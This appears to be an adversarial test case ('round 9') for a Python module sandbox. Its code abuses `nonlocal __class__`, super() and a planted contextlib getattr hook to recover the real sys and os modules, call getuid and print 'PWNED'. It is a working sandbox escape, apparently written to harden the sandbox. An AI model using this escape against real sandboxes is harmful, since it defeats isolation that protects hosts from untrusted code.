# adversary round 9: Tries: inside a method, `nonlocal __class__` rebinds the class's implicit cell to GuardedModule and `self` is reassigned to contextlib, so super() = super(GuardedModule, contextlib); object.__setattr__ plants contextlib.getattr -> real sys via redirect_stdout
import contextlib
import io

got = []

def spy(obj, name, *d):
    got.append(obj)
    return obj.stdout

class X:
    def w(self, k, v):
        nonlocal __class__
        __class__ = type(contextlib)
        self = contextlib
        super().__setattr__(k, v)

X().w("get" + "attr", spy)
with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
o = s.modules["o" + "s"]
print(s.__name__, o.__name__, o.getuid())
print("PWN" + "ED")
